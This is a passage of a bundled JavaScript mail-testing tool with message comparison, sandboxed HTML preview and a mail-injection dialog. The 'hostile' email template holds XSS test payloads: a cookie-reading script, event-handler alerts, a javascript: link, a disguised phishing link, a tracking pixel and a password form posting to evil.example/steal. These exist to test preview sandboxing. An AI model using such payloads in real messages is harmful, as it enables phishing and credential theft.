import {
  $,
  A,
  ALL,
  Button,
  CLOCKS,
  DENSITIES,
  Dialog,
  FIXED,
  Failure,
  Icon,
  Link,
  LinkButton,
  MINE,
  PANES,
  Problem,
  RecipientChip,
  Rule,
  SANDBOX,
  SCHEMES,
  Screen,
  Segments,
  Stroke,
  T,
  THEMES,
  Tabs,
  Transcript,
  WIDTHS,
  Waiting,
  a,
  active,
  ago,
  askRules,
  at,
  bindings,
  charts,
  compose,
  copy,
  count,
  d,
  facets,
  facets2,
  failed,
  go,
  hits,
  href,
  hue,
  inbox,
  info2 as info,
  injectTo,
  instant,
  keysOf,
  layer,
  message,
  messages,
  mineQuery,
  moment,
  now,
  prefer,
  prefs,
  previewed,
  putTable,
  putViews,
  query,
  quoted,
  reloadTables,
  reset,
  route,
  rows,
  sample,
  saved,
  search,
  selection,
  session,
  sessions,
  shorten,
  size,
  stats,
  stroke,
  t,
  tableText,
  tables,
  tagged,
  taken,
  tell,
  useFetched,
  view,
  visit,
  w,
  waits,
  y
} from "./c-chunk.js";

// src/views/compare/earlier.ts
var MOST = 200;
async function earlier(message2) {
  let from = message2.summary.from?.[0]?.address, found = await rows({ q: from ? `from:${quoted(from)}` : "", account: "", mailbox: "" }, { offset: 0, limit: MOST, asof: message2.uid - 1 }), kind = (subject) => subject.replace(/\d+/g, "#");
  return found.rows.find((row) => row.id !== message2.id && kind(row.subj) === kind(message2.summary.subject));
}

// src/diff.ts
function words(text2) {
  return text2.match(/\r?\n|[^\S\n]+|[\p{L}\p{N}_]+|[^\s\p{L}\p{N}_]/gu) ?? [];
}
function diff(a2, b) {
  let start = 0;
  for (; start < a2.length && start < b.length && a2[start] === b[start]; ) start++;
  let end = 0;
  for (; end < a2.length - start && end < b.length - start && a2[a2.length - 1 - end] === b[b.length - 1 - end]; ) end++;
  let middle = trace(a2.slice(start, a2.length - end), b.slice(start, b.length - end));
  return join([...a2.slice(0, start).map(same), ...middle, ...a2.slice(a2.length - end).map(same)]);
}
var same = (text2) => ({ side: 0, text: text2 });
function trace(a2, b) {
  let [n, m] = [a2.length, b.length], most = Math.min(n + m, 4e3), ends = [], v = new Int32Array(2 * most + 3);
  for (let d2 = 0; d2 <= most; d2++) {
    ends.push(v.slice());
    for (let k = -d2; k <= d2; k += 2) {
      let at2 = k + most + 1, x = k === -d2 || k !== d2 && v[at2 - 1] < v[at2 + 1] ? v[at2 + 1] : v[at2 - 1] + 1;
      for (; x < n && x - k < m && a2[x] === b[x - k]; ) x++;
      if (v[at2] = x, x >= n && x - k >= m) return back(a2, b, ends, most);
    }
  }
  return [...a2.map((text2) => ({ side: -1, text: text2 })), ...b.map((text2) => ({ side: 1, text: text2 }))];
}
function back(a2, b, ends, most) {
  let out = [], [x, y2] = [a2.length, b.length];
  for (let d2 = ends.length - 1; d2 >= 0; d2--) {
    let v = ends[d2], k = x - y2, at2 = k + most + 1, down = k === -d2 || k !== d2 && v[at2 - 1] < v[at2 + 1], before = d2 === 0 ? 0 : down ? v[at2 + 1] : v[at2 - 1], floor = d2 === 0 ? 0 : before - (down ? k + 1 : k - 1);
    for (; x > before && y2 > floor && x > 0 && y2 > 0 && a2[x - 1] === b[y2 - 1]; )
      out.push(same(a2[--x])), y2--;
    if (d2 === 0) break;
    down ? out.push({ side: 1, text: b[--y2] }) : out.push({ side: -1, text: a2[--x] });
  }
  return out.reverse();
}
function join(changes) {
  let out = [];
  for (let change of changes) {
    let last = out[out.length - 1];
    last && last.side === change.side ? last.text += change.text : out.push({ ...change });
  }
  return out;
}
function plain(text2, ignored) {
  let out = text2.replace(/\r\n/g, `
`);
  return ignored.numbers && (out = out.replace(/\b(?=[\w-]*\d)[\w-]{6,}\b|\d+/g, "#")), ignored.space && (out = out.replace(/\s+/g, " ").trim()), out;
}

// src/views/compare/Texts.tsx
function Texts({ a: a2, b, noise, onNoise }) {
  let [numbers, setNumbers] = d(!1), [space, setSpace] = d(!1), [at2, setAt] = d(-1), changes = w(() => diff(words(plain(a2, { numbers, space })), words(plain(b, { numbers, space }))), [a2, b, numbers, space]), n = w(() => groups(changes), [changes]), text2 = T(null);
  A(() => setAt(-1), [changes]), A(() => {
    text2.current.querySelectorAll("[data-change]").forEach((one) => one.classList.toggle("here", Number(one.dataset.change) === at2)), text2.current.querySelector(`[data-change="${at2}"]`)?.scrollIntoView({ block: "center" });
  }, [at2, changes]);
  let tick = (label, on, set) => /* @__PURE__ */ a("label", { class: "tick", children: [
    /* @__PURE__ */ a("input", { type: "checkbox", checked: on, onChange: (event) => set(event.currentTarget.checked) }),
    " ",
    label
  ] });
  return /* @__PURE__ */ a($, { children: [
    /* @__PURE__ */ a("div", { class: "toolbar", children: [
      /* @__PURE__ */ a("span", { class: "dim", role: "status", children: n ? at2 < 0 ? t("compare.changes", { n }) : t("compare.at", { at: at2 + 1, n }) : t("compare.same") }),
      /* @__PURE__ */ a(Button, { label: t("compare.before"), icon: "newer", bare: !0, kind: "quiet", disabled: n === 0, onClick: () => setAt((at2 + n + (at2 < 0 ? 0 : -1)) % n) }),
      /* @__PURE__ */ a(Button, { label: t("compare.next"), icon: "older", bare: !0, kind: "quiet", disabled: n === 0, onClick: () => setAt((at2 + 1) % n) }),
      /* @__PURE__ */ a("span", { class: "gap" }),
      /* @__PURE__ */ a("span", { class: "dim", children: t("compare.ignore") }),
      onNoise && tick(t("compare.noise"), !!noise, onNoise),
      tick(t("compare.numbers"), numbers, setNumbers),
      tick(t("compare.space"), space, setSpace)
    ] }),
    /* @__PURE__ */ a("pre", { class: "plain wrap differ", tabIndex: 0, ref: text2, children: numbered(changes).map(
      ({ side, text: run, nth }, index) => side === 0 ? run : side > 0 ? /* @__PURE__ */ a("ins", { "data-change": nth, children: [
        /* @__PURE__ */ a("span", { class: "sr", children: [
          t("compare.ins"),
          " "
        ] }),
        run
      ] }, index) : /* @__PURE__ */ a("del", { "data-change": nth, children: [
        /* @__PURE__ */ a("span", { class: "sr", children: [
          t("compare.del"),
          " "
        ] }),
        run
      ] }, index)
    ) })
  ] });
}
function numbered(changes) {
  let nth = -1;
  return changes.map((change, at2) => (change.side && !changes[at2 - 1]?.side && nth++, { ...change, nth }));
}
function groups(changes) {
  return Math.max(-1, ...numbered(changes).filter(({ side }) => side).map(({ nth }) => nth)) + 1;
}

// src/views/compare/CompareScreen.tsx
var KINDS = ["html", "text", "source", "headers", "parts"];
function CompareScreen() {
  let { name, other } = route.value, [noise, setNoise] = d(!0), a2 = useFetched(`message ${name}`, (signal) => message(name, signal)), b = useFetched(`message ${other}`, (signal) => message(other, signal)), problem = a2.problem ?? b.problem, tab = route.value.tab || (a2.data?.preview && b.data?.preview ? "html" : "text"), items = KINDS.map((value) => ({ value, text: t(value === "html" ? "compare.visual" : value === "source" ? "tab.html" : `tab.${value}`) }));
  return /* @__PURE__ */ a(
    Screen,
    {
      title: t("compare.title"),
      kind: "compare",
      tools: /* @__PURE__ */ a($, { children: [
        a2.data && /* @__PURE__ */ a(Side, { mark: "A", message: a2.data }),
        b.data && /* @__PURE__ */ a(Side, { mark: "B", message: b.data }),
        /* @__PURE__ */ a("span", { class: "ends", children: [
          /* @__PURE__ */ a(Button, { label: t("compare.swap"), icon: "swap", bare: !0, kind: "quiet", onClick: () => go({ name: other, other: name }, !0) }),
          a2.data && /* @__PURE__ */ a(Button, { label: t("compare.earlier"), icon: "older", bare: !0, kind: "quiet", onClick: () => {
            further(a2.data);
          } })
        ] })
      ] }),
      children: [
        problem && /* @__PURE__ */ a(Failure, { text: problem, again: () => (a2.again(), b.again()) }),
        !problem && (!a2.data || !b.data) && /* @__PURE__ */ a(Waiting, {}),
        a2.data && b.data && /* @__PURE__ */ a($, { children: [
          /* @__PURE__ */ a(Tabs, { label: t("compare.kinds"), id: "cmp", items, value: tab, onChange: (value) => go({ tab: value }, !0) }),
          /* @__PURE__ */ a("div", { class: "panel", role: "tabpanel", id: "cmp-panel", "aria-labelledby": `cmp-${tab}`, "data-tab": tab, children: tab === "html" ? /* @__PURE__ */ a(Visual, { a: a2.data, b: b.data }) : /* @__PURE__ */ a(Texts, { a: text(a2.data, tab, noise), b: text(b.data, tab, noise), noise, onNoise: tab === "headers" ? setNoise : void 0 }, tab) })
        ] })
      ]
    }
  );
}
function Side({ mark, message: message2 }) {
  return /* @__PURE__ */ a("span", { class: "which", children: [
    /* @__PURE__ */ a("b", { children: mark }),
    /* @__PURE__ */ a("span", { class: "n", children: moment(Date.parse(message2.internalDate), now.value) }),
    /* @__PURE__ */ a(Link, { to: { id: message2.id }, children: /* @__PURE__ */ a("bdi", { children: message2.summary.subject || t("row.noSubject") }) })
  ] });
}
async function further(a2) {
  try {
    let found = await earlier(a2);
    found ? go({ name: found.id }, !0) : tell(t("compare.none"));
  } catch (cause) {
    failed(cause);
  }
}
var NOISE = /^(?:date|message-id|received|dkim-signature|x-google-|arc-)/i;
function text(message2, tab, noise) {
  return tab === "source" ? message2.html ?? "" : tab === "headers" ? (message2.headers ?? []).filter(({ name }) => !noise || !NOISE.test(name)).map(({ name, body }) => `${name}: ${noise ? body.replace(/boundary="?[^";]+"?/gi, "boundary=…") : body}`).join(`
`) : tab === "parts" ? outline(message2.parts ?? []) : message2.text ?? "";
}
function outline(parts, depth = 0) {
  return parts.map((part) => `${"  ".repeat(depth)}${part.type}${part.charset ? ` ${part.charset}` : ""}${part.encoding ? ` ${part.encoding}` : ""}${part.filename ? ` ${part.filename}` : ""}
${outline(part.children ?? [], depth + 1)}`).join("");
}
var LOOKS = ["side", "over", "difference", "swipe"];
function Visual({ a: a2, b }) {
  let [how, setHow] = d("side"), [part, setPart] = d(50), { width, scheme } = route.value;
  if (!a2.preview || !b.preview) return /* @__PURE__ */ a("p", { class: "dim pad", children: t("compare.noHtml") });
  let stacked = how !== "side", frame = (message2, mark) => /* @__PURE__ */ a(
    "iframe",
    {
      class: scheme === "dark" ? "dark" : void 0,
      title: `${mark}: ${t("html.title", { subject: message2.summary.subject })}`,
      sandbox: SANDBOX,
      referrerpolicy: "no-referrer",
      src: previewed(message2.preview) + (scheme === "forced" ? "?force=dark" : "")
    }
  );
  return /* @__PURE__ */ a($, { children: [
    /* @__PURE__ */ a("div", { class: "toolbar", children: [
      /* @__PURE__ */ a(Segments, { label: t("compare.how"), options: LOOKS.map((value) => ({ value, text: t(`compare.${value}`) })), value: how, onChange: setHow }),
      /* @__PURE__ */ a(Segments, { label: t("html.width"), options: WIDTHS.map((value) => ({ value, text: value ? String(value) : t("html.fit") })), value: width, onChange: (value) => go({ width: value }, !0) }),
      /* @__PURE__ */ a(Segments, { label: t("html.scheme"), options: SCHEMES.map((value) => ({ value, text: t(`html.${value}`) })), value: scheme, onChange: (value) => go({ scheme: value }, !0) }),
      (how === "swipe" || how === "over") && /* @__PURE__ */ a("input", { type: "range", "aria-label": t("compare.part"), min: 0, max: 100, value: part, onInput: (event) => setPart(event.currentTarget.valueAsNumber) })
    ] }),
    /* @__PURE__ */ a("div", { class: `both ${how}`, style: { "--part": `${part}%`, "--see": part / 100, "--wide": width ? `${width}px` : "100%" }, children: [
      /* @__PURE__ */ a("div", { class: "one", children: frame(a2, "A") }),
      /* @__PURE__ */ a("div", { class: stacked ? "one upper" : "one", children: frame(b, "B") })
    ] })
  ] });
}

// src/templates.ts
function head(subject, now2, more = []) {
  return ["From: Shop <app@shop.example>", "To: Anna Berg <anna@customers.example>", `Subject: ${subject}`, `Date: ${now2.toUTCString().replace("GMT", "+0000")}`, `Message-ID: <${now2.getTime()}@shop.example>`, "MIME-Version: 1.0", ...more].join(`
`);
}
var HOSTILE = `<!doctype html><html lang="en"><head><title>Your account</title>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url("https://evil.example/import.css"); body { background: url(https://evil.example/css.png) }</style>
<script>top.location = "https://evil.example/"; alert(document.cookie)<\/script></head>
<body onload="alert('onload')">
<h1>Your account will be closed</h1>
<p><img src="https://tracker.example/open.gif?u=anna" width="1" height="1" onerror="alert('onerror')"></p>
<p><a href="javascript:alert('link')">Confirm now</a> or <a href="https://evil.example/login">https://bank.example/login</a></p>
<form action="https://evil.example/steal"><input name="password" autofocus onfocus="alert('focus')"><button>Log in</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<svg><script>alert('svg')<\/script></svg>
</body></html>`, EVENT = `BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//mailsink//composer//EN
METHOD:REQUEST
BEGIN:VEVENT
UID:meeting-1@shop.example
DTSTAMP:20261122T090000Z
DTSTART:20261201T130000Z
DTEND:20261201T140000Z
SUMMARY:Review of the new shop
LOCATION:Room 3
ORGANIZER:mailto:app@shop.example
ATTENDEE;RSVP=TRUE:mailto:anna@customers.example
END:VEVENT
END:VCALENDAR`, TEMPLATES = [
  {
    name: "template.hostile",
    make: (now2) => `${head("Your account will be closed", now2, ["Content-Type: text/html; charset=utf-8"])}

${HOSTILE}
`
  },
  {
    name: "template.broken",
    make: (now2) => `${head("=?utf-8?B?QnJva2Vu?= =?utf-8?Q?_MIME=", now2, ['Content-Type: multipart/mixed; boundary="never"', "Content-Transfer-Encoding: 9bit", "no colon in this line", "Content-Type: text/plain"])}

--other
Content-Type: text/html; charset=no-such-charset
Content-Transfer-Encoding: base64

!!! this is not base64 !!!
--other
Content-Type: image/png; name*=utf-8''%E2%82%ZZ.png

nothing ends here
`
  },
  {
    name: "template.nested",
    make: (now2) => {
      let open = Array.from({ length: 30 }, (_, at2) => `Content-Type: multipart/mixed; boundary="b${at2}"

--b${at2}
`).join(""), close = Array.from({ length: 30 }, (_, at2) => `--b${29 - at2}--
`).join("");
      return `${head("Thirty parts deep", now2)}
${open}Content-Type: text/plain; charset=utf-8

The bottom.
${close}`;
    }
  },
  {
    name: "template.rtl",
    make: (now2) => `${head("=?utf-8?B?2KrZhSDYtNit2YYg2LfZhNio2YM=?=", now2, ["Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: 8bit"])}

<html lang="ar" dir="rtl"><body><h1>تم شحن طلبك</h1><p>مرحبا آنا، طردك في الطريق إليك. الرمز: <bdi>482913</bdi></p></body></html>
`
  },
  {
    name: "template.long",
    make: (now2) => `${head(`${"Donaudampfschifffahrtsgesellschaft".repeat(12)} ${"and so on ".repeat(60)}`, now2, ["Content-Type: text/plain; charset=utf-8"])}

${"x".repeat(5e3)}
${"https://shop.example/" + "path/".repeat(300)}
`
  },
  {
    name: "template.bounce",
    make: (now2) => `${head("Undelivered Mail Returned to Sender", now2, ["Auto-Submitted: auto-replied", 'Content-Type: multipart/report; report-type=delivery-status; boundary="r"']).replace("Shop <app@shop.example>", "MAILER-DAEMON@mail.shop.example")}

--r
Content-Type: text/plain; charset=us-ascii

The message could not be delivered.
--r
Content-Type: message/delivery-status

Reporting-MTA: dns; mail.shop.example

Final-Recipient: rfc822; nobody@customers.example
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 no such user
--r
Content-Type: message/rfc822

From: app@shop.example
To: nobody@customers.example
Subject: Your order

Hello.
--r--
`
  },
  {
    name: "template.invitation",
    make: (now2) => `${head("Review of the new shop", now2, ['Content-Type: multipart/alternative; boundary="c"'])}

--c
Content-Type: text/plain; charset=utf-8

You are invited.
--c
Content-Type: text/calendar; charset=utf-8; method=REQUEST

${EVENT}
--c--
`
  }
];

// src/views/layers/letter.ts
function begin() {
  let message2 = route.value.id ? messages.shown.peek().message : void 0, rcpt = message2?.envelope.recipients[0]?.original, subject = message2?.summary.subject ?? "";
  return {
    from: rcpt ?? "app@shop.example",
    to: message2?.summary.replyTo?.[0]?.address ?? message2?.summary.from?.[0]?.address ?? "anna@customers.example",
    cc: "",
    subject: message2 ? /^re:/i.test(subject) ? subject : `Re: ${subject}` : "",
    text: message2?.text ? `

${message2.text.replace(/^/gm, "> ").trimEnd()}
` : "",
    html: "<p>Hello</p>",
    raw: sample(/* @__PURE__ */ new Date()).replaceAll(`\r
`, `
`),
    files: []
  };
}
function addresses(list) {
  return list.split(/[\s,;]+/).filter(Boolean);
}
function enclose(file) {
  return new Promise((resolve, reject) => {
    let reader = new FileReader();
    reader.onload = () => resolve({ filename: file.name, type: file.type || "application/octet-stream", size: file.size, content: String(reader.result).replace(/^[^,]*,/, "") }), reader.onerror = () => reject(reader.error ?? new Error(file.name)), reader.readAsDataURL(file);
  });
}
function composition(letter, html) {
  let { from, subject, text: text2, files } = letter, attachments = files.map(({ filename, type, content }) => ({ filename, type, content })), cc = addresses(letter.cc);
  return { from, to: addresses(letter.to), subject, text: text2, ...cc.length && { cc }, ...html && { html: letter.html }, ...attachments.length && { attachments } };
}

// src/views/layers/InjectSheet.tsx
var FORMS = ["text", "html", "raw"];
function useSending(letter, form, times) {
  let [busy, setBusy] = d(!1), [problem, setProblem] = d(""), [sent, setSent] = d([]);
  return { busy, problem, sent, send: async (event) => {
    event.preventDefault(), setBusy(!0), setProblem(""), setSent([]);
    try {
      let ids = [];
      for (let n = 0; n < times; n++)
        ids = (form === "raw" ? await injectTo(letter.raw.replace(/\r?\n/g, `\r
`), letter.from, addresses(letter.to)) : await compose(composition(letter, form === "html"))).ids;
      setSent(ids);
    } catch (cause) {
      setProblem(cause instanceof Error ? cause.message : String(cause));
    }
    setBusy(!1);
  } };
}
function InjectSheet({ onClose }) {
  let [letter, setLetter] = d(begin), [form, setForm] = d("text"), [times, setTimes] = d(1), { busy, problem, sent, send } = useSending(letter, form, times), set = (change) => setLetter((old) => ({ ...old, ...change })), take = (name) => {
    let template = TEMPLATES.find((one) => one.name === name);
    template && (set({ raw: template.make(/* @__PURE__ */ new Date()) }), setForm("raw"));
  }, forms = FORMS.map((value) => ({ value, text: t(`inject.${value}`) }));
  return /* @__PURE__ */ a(Dialog, { title: t("inject.title"), class: "inject", onClose, children: /* @__PURE__ */ a("form", { class: "stack", onSubmit: (event) => {
    send(event);
  }, children: [
    /* @__PURE__ */ a("p", { class: "notebar calm", children: t("inject.stays") }),
    /* @__PURE__ */ a("div", { class: "pair", children: [
      /* @__PURE__ */ a(Field, { name: "MAIL FROM", value: letter.from, set: (from) => set({ from }) }),
      /* @__PURE__ */ a(Field, { name: "RCPT TO", value: letter.to, required: !0, set: (to) => set({ to }) })
    ] }),
    form !== "raw" && /* @__PURE__ */ a("div", { class: "pair", children: [
      /* @__PURE__ */ a(Field, { name: t("inject.subject"), value: letter.subject, first: !0, set: (subject) => set({ subject }) }),
      /* @__PURE__ */ a(Field, { name: t("msg.cc"), value: letter.cc, set: (cc) => set({ cc }) })
    ] }),
    /* @__PURE__ */ a("div", { class: "one-line", children: [
      /* @__PURE__ */ a(Segments, { label: t("inject.form"), options: forms, value: form, onChange: setForm }),
      /* @__PURE__ */ a("span", { class: "gap" }),
      /* @__PURE__ */ a("select", { class: "inp template", "aria-label": t("inject.template"), value: "", onChange: (event) => take(event.currentTarget.value), children: [
        /* @__PURE__ */ a("option", { value: "", children: t("inject.template") }),
        TEMPLATES.map(({ name }) => /* @__PURE__ */ a("option", { value: name, children: t(name) }, name))
      ] })
    ] }),
    /* @__PURE__ */ a("textarea", { class: "inp", rows: 9, "aria-label": t(`inject.${form}`), spellcheck: form === "text", value: letter[form], onInput: (event) => set({ [form]: event.currentTarget.value }) }),
    form !== "raw" && /* @__PURE__ */ a(Files, { files: letter.files, set: (files) => set({ files }) }),
    problem && /* @__PURE__ */ a("p", { class: "bad", role: "alert", children: problem }),
    sent.length > 0 && /* @__PURE__ */ a(Sent, { ids: sent }),
    /* @__PURE__ */ a("p", { class: "answers", children: [
      /* @__PURE__ */ a("label", { class: "times", children: [
        t("inject.times"),
        /* @__PURE__ */ a("input", { class: "inp", type: "number", min: 1, max: 1e3, value: times, onInput: (event) => setTimes(Math.max(1, Math.min(1e3, event.currentTarget.valueAsNumber || 1))) })
      ] }),
      /* @__PURE__ */ a("span", { class: "gap" }),
      /* @__PURE__ */ a(Button, { label: t("act.close"), onClick: onClose }),
      /* @__PURE__ */ a(Button, { label: t("inject.send"), kind: "primary", remote: !0, icon: "send", submit: !0, disabled: busy })
    ] })
  ] }) });
}
function Field({ name, value, set, required, first }) {
  return /* @__PURE__ */ a("label", { children: [
    name,
    /* @__PURE__ */ a("input", { class: "inp", value, required, autofocus: first, autocomplete: "off", spellcheck: !1, onInput: (event) => set(event.currentTarget.value) })
  ] });
}
function Files({ files, set }) {
  let add = async (event) => {
    let input = event.currentTarget, more = await Promise.all([...input.files ?? []].map(enclose));
    input.value = "", set([...files, ...more]);
  };
  return /* @__PURE__ */ a("div", { class: "files", children: [
    /* @__PURE__ */ a("label", { class: "btn", children: [
      /* @__PURE__ */ a(Icon, { name: "clip" }),
      " ",
      t("inject.attach"),
      /* @__PURE__ */ a("input", { type: "file", multiple: !0, class: "sr", onChange: (event) => {
        add(event);
      } })
    ] }),
    files.map((file, at2) => /* @__PURE__ */ a("span", { class: "file", children: [
      /* @__PURE__ */ a("bdi", { children: file.filename }),
      " ",
      /* @__PURE__ */ a("span", { class: "dim", children: size(file.size) }),
      /* @__PURE__ */ a(Button, { label: t("inject.unattach", { name: file.filename }), icon: "close", bare: !0, kind: "quiet", onClick: () => set(files.filter((_, other) => other !== at2)) })
    ] }, at2))
  ] });
}
function Sent({ ids }) {
  return /* @__PURE__ */ a("p", { class: "ok", role: "status", children: [
    t("inject.sent"),
    " ",
    ids.map((id) => /* @__PURE__ */ a("span", { onClick: () => layer.value = "", children: [
      /* @__PURE__ */ a(Link, { to: { id, tab: "delivery" }, children: /* @__PURE__ */ a("code", { children: id }) }),
      " "
    ] }, id))
  ] });
}

// src/views/layers/LinkSheet.tsx
function LinkSheet({ onClose }) {
  let links2 = messages.shown.value.message?.links ?? [];
  return /* @__PURE__ */ a(Dialog, { title: t("links.title"), onClose, children: /* @__PURE__ */ a("div", { class: "stack", children: [
    links2.length === 0 && /* @__PURE__ */ a("p", { class: "dim", children: t("links.none") }),
    /* @__PURE__ */ a("ul", { class: "lines-of", children: links2.map(({ url, text: text2 }, at2) => /* @__PURE__ */ a("li", { children: [
      /* @__PURE__ */ a("span", { children: [
        /^https?:/.test(url) ? /* @__PURE__ */ a("a", { href: url, target: "_blank", rel: "noopener noreferrer nofollow", children: url }) : /* @__PURE__ */ a("code", { children: url }),
        text2 && text2 !== url && /* @__PURE__ */ a("span", { class: "dim", dir: "auto", children: text2 })
      ] }),
      /* @__PURE__ */ a("span", { class: "ends", children: [
        /* @__PURE__ */ a(Button, { label: t("links.copy"), icon: "copy", bare: !0, kind: "quiet", onClick: () => {
          copy(url, t("what.link"));
        } }),
        /^https?:/.test(url) && /* @__PURE__ */ a(LinkButton, { label: t("act.openLink"), icon: "out", href: url, bare: !0 })
      ] })
    ] }, at2)) })
  ] }) });
}

// src/parts/MyAddresses.tsx
function MyAddresses() {
  let [text2, setText] = d(""), { mine } = prefs.value;
  return /* @__PURE__ */ a($, { children: [
    /* @__PURE__ */ a("form", { onSubmit: (event) => {
      event.preventDefault(), text2 && !mine.includes(text2) && prefer({ mine: [...mine, text2] }), setText("");
    }, children: /* @__PURE__ */ a("label", { children: [
      t("mine.add"),
      /* @__PURE__ */ a("span", { class: "one-line", children: [
        /* @__PURE__ */ a("input", { class: "inp", value: text2, placeholder: "anna*@customers.example", autocomplete: "off", spellcheck: !1, onInput: (event) => setText(event.currentTarget.value.trim()) }),
        /* @__PURE__ */ a(Button, { label: t("tags.add"), submit: !0, disabled: !text2 })
      ] })
    ] }) }),
    mine.length > 0 && /* @__PURE__ */ a("ul", { class: "lines-of", "aria-label": t("mine.title"), children: mine.map((pattern) => /* @__PURE__ */ a("li", { children: [
      /* @__PURE__ */ a("code", { children: pattern }),
      /* @__PURE__ */ a(Button, { label: t("mine.drop", { pattern }), icon: "trash", bare: !0, kind: "quiet", onClick: () => prefer({ mine: mine.filter((one) => one !== pattern) }) })
    ] }, pattern)) })
  ] });
}

// src/views/layers/MineSheet.tsx
function MineSheet({ onClose }) {
  return /* @__PURE__ */ a(Dialog, { title: t("mine.title"), onClose, children: /* @__PURE__ */ a("div", { class: "stack", children: [
    /* @__PURE__ */ a("p", { class: "dim", children: t("mine.why") }),
    /* @__PURE__ */ a(MyAddresses, {}),
    /* @__PURE__ */ a("p", { class: "answers", children: /* @__PURE__ */ a(Button, { label: t("mine.show"), kind: "primary", disabled: prefs.value.mine.length === 0, onClick: () => (onClose(), search(mineQuery(prefs.value.mine))) }) })
  ] }) });
}

// src/views/layers/Palette.tsx
var MOST2 = 6, PREFIX = { ">": "command", "@": "rcpt", "#": "tag" };
function score(text2, typed) {
  let [low, want] = [text2.toLowerCase(), typed.toLowerCase().replace(/\s+/g, "")];
  if (!want) return 1;
  let [sum, at2] = [0, -1];
  for (let letter of want) {
    let next = low.indexOf(letter, at2 + 1);
    if (next < 0) return 0;
    sum += next === at2 + 1 ? 5 : /\W|^$/.test(low[next - 1] ?? "") ? 4 : 1, at2 = next;
  }
  return sum / (1 + low.length / 100);
}
function commands() {
  return bindings.filter((binding) => binding.text !== "key.tab" && binding.text !== "key.palette").map((binding) => ({ group: "command", text: t(binding.text), icon: "command", key: keysOf(binding)[0], run: binding.run }));
}
function places() {
  let out = saved.value.map((one, at2) => ({ group: "place", text: one.name, icon: "save", key: at2 < 9 ? `g ${at2 + 1}` : void 0, run: () => visit({ saved: one.name }) }));
  return prefs.value.mine.length && out.push({ group: "place", text: t("view.mine"), icon: "user", run: () => search(mineQuery(prefs.value.mine)) }), out;
}
function mails() {
  let out = [];
  for (let index = 0; index < Math.min(200, inbox.rows.total); index++) {
    let row = inbox.rows.at(index);
    row && out.push({ group: "mail", text: row.subj || t("row.noSubject"), icon: "mail", run: () => visit({ id: row.id }) });
  }
  return out;
}
function tags() {
  let known2 = /* @__PURE__ */ new Set();
  for (let index = 0; index < Math.min(1e3, inbox.rows.total); index++) inbox.rows.at(index)?.tags?.forEach((tag) => known2.add(tag));
  return [...known2].map((tag) => ({ group: "tag", text: tag, icon: "tag", run: () => search(`tag:${quoted(tag)}`) }));
}
function recipients(found) {
  return found.map(({ value, total }) => ({ group: "rcpt", text: value, icon: "user", n: total, run: () => search(`rcpt:${quoted(value)}`) }));
}
function rank(all, typed) {
  let groups2 = /* @__PURE__ */ new Map();
  for (let entry of all) {
    let fit = score(entry.text, typed);
    fit > 0 && groups2.set(entry.group, [...groups2.get(entry.group) ?? [], { entry, fit }]);
  }
  let best = (list) => Math.max(...list.map(({ fit }) => fit));
  return [...groups2.values()].map((list) => typed ? list.sort((a2, b) => b.fit - a2.fit) : list).sort((a2, b) => typed ? best(b) - best(a2) : 0).flatMap((list) => list.slice(0, groups2.size === 1 ? 40 : MOST2).map(({ entry }) => entry));
}
function Palette({ onClose }) {
  let [text2, setText] = d(""), [found, setFound] = d(facets2.recipients.value), [at2, setAt] = d(0), box = T(null), only = PREFIX[text2[0] ?? ""], typed = (only ? text2.slice(1) : text2).trim();
  A(() => box.current?.focus(), []), A(() => {
    if (typed.length < 2) return setFound(facets2.recipients.value);
    let asking = new AbortController();
    return facets("rcpt", typed.toLowerCase(), 12, asking.signal).then(setFound, () => {
    }), () => asking.abort();
  }, [typed]);
  let list = w(() => {
    let all = [...commands(), ...places(), ...recipients(found), ...tags(), ...mails()];
    return rank(only ? all.filter((entry) => entry.group === only) : all, typed);
  }, [text2, found]), choose = (entry) => {
    entry && (onClose(), entry.run());
  }, press = (event) => {
    let step = event.key === "ArrowDown" ? 1 : event.key === "ArrowUp" ? -1 : 0;
    if (step) setAt((at2 + step + list.length) % Math.max(1, list.length));
    else if (event.key === "Enter") choose(list[at2]);
    else return;
    event.preventDefault();
  };
  return A(() => document.getElementById(`pal-${at2}`)?.scrollIntoView({ block: "nearest" }), [at2]), /* @__PURE__ */ a(Dialog, { title: t("palette.title"), class: "palette", onClose, children: [
    /* @__PURE__ */ a("div", { class: "ask", children: [
      /* @__PURE__ */ a(Icon, { name: "command" }),
      /* @__PURE__ */ a(
        "input",
        {
          ref: box,
          type: "text",
          role: "combobox",
          "aria-label": t("palette.title"),
          "aria-expanded": "true",
          "aria-controls": "pal",
          "aria-autocomplete": "list",
          "aria-activedescendant": list.length ? `pal-${at2}` : void 0,
          placeholder: t("palette.hint"),
          autocomplete: "off",
          spellcheck: !1,
          value: text2,
          onInput: (event) => (setText(event.currentTarget.value), setAt(0)),
          onKeyDown: press
        }
      )
    ] }),
    /* @__PURE__ */ a("div", { class: "results", id: "pal", role: "listbox", "aria-label": t("palette.title"), children: list.map((entry, index) => /* @__PURE__ */ a("div", { id: `pal-${index}`, role: "option", "aria-selected": index === at2, onPointerMove: () => setAt(index), onClick: () => choose(entry), children: [
      /* @__PURE__ */ a(Icon, { name: entry.icon }),
      /* @__PURE__ */ a("span", { class: "name", dir: "auto", children: entry.text }),
      entry.n !== void 0 && /* @__PURE__ */ a("span", { class: "n", children: count(entry.n) }),
      /* @__PURE__ */ a("span", { class: "n", children: t(`palette.${entry.group}`) }),
      entry.key && /* @__PURE__ */ a(Stroke, { name: entry.key })
    ] }, `${entry.group}-${index}-${entry.text}`)) }),
    list.length === 0 && /* @__PURE__ */ a("p", { class: "state", children: t("palette.none") }),
    /* @__PURE__ */ a("p", { class: "foot", "aria-hidden": "true", children: t("palette.prefixes") })
  ] });
}

// src/views/layers/TagSheet.tsx
var LEGAL = /^[^\s\x00-\x1f\x7f-\uffff(){%*"\\\]]{1,100}$/;
function known() {
  let picked = selection.ids.value.size ? [...selection.ids.value] : [route.value.id || active.value], on = new Set(picked.flatMap((id) => inbox.rows.find(id)?.tags ?? [])), all = new Set(on);
  for (let index = 0; index < Math.min(1e3, inbox.rows.total); index++) inbox.rows.at(index)?.tags?.forEach((tag) => all.add(tag));
